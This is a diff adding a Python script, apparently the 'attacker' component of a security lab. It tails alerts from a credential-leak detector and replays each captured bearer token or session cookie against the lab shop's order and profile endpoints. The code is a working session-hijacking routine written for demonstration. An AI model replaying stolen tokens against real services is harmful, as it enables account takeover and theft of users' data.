@@ -1,0 +1,66 @@
+#!/usr/bin/env python3
+"""The lab's attacker: replays each newly stolen token or session cookie once against the lab's shop, and
+says what came back. It reads the alerts plainsight writes (with --reveal) as they arrive, and runs in the
+victim's network namespace, as an attacker on the same LAN would: inside the lab, nowhere else.
+
+    attacker.py ALERTS.jsonl SHOP_IP HOST     (until killed)
+
+Each replay prints one line: `replay <kind> <user> -> HTTP <status>: <first bytes of the answer>`.
+"""
+import json
+import sys
+import time
+import urllib.error
+import urllib.request
+
+alerts, shop, host = sys.argv[1], sys.argv[2], sys.argv[3]
+TOKENS = {"bearer_jwt", "bearer_opaque", "login_response_token"}
+COOKIES = {"cookie_token", "set_cookie_insecure"}
+done = set()
+
+
+def replay(path, headers):
+    req = urllib.request.Request("http://%s%s" % (shop, path), headers=dict(headers, Host=host))
+    try:
+        with urllib.request.urlopen(req, timeout=3) as r:
+            return r.status, r.read(60)
+    except urllib.error.HTTPError as e:
+        return e.code, e.read(60)
+    except OSError as e:
+        return 0, str(e).encode()
+
+
+def handle(a):
+    kind, secret = a.get("kind"), a.get("secret") or ""
+    if kind not in TOKENS | COOKIES or a.get("fingerprint") in done or "…[" in secret:
+        return
+    jwt = a.get("jwt") or {}
+    if (jwt.get("validity") or {}).get("state") == "expired":
+        return
+    done.add(a.get("fingerprint"))
+    if kind in TOKENS:
+        status, body = replay("/api/orders", {"Authorization": "Bearer " + secret})
+    else:
+        name = (a.get("location") or "cookie session").split(" ", 1)[-1]
+        status, body = replay("/api/profile", {"Cookie": "%s=%s" % (name, secret)})
+    who = a.get("user") or "-"
+    text = body.decode("utf-8", "replace").replace("\n", " ")
+    print("replay %s %s -> HTTP %d: %s" % (kind, who, status, text), flush=True)
+
+
+pos = 0
+while True:
+    try:
+        with open(alerts, encoding="utf-8") as f:
+            f.seek(pos)
+            for line in f:
+                if not line.endswith("\n"):
+                    break
+                pos += len(line.encode("utf-8"))
+                try:
+                    handle(json.loads(line))
+                except ValueError:
+                    pass
+    except FileNotFoundError:
+        pass
+    time.sleep(0.2)
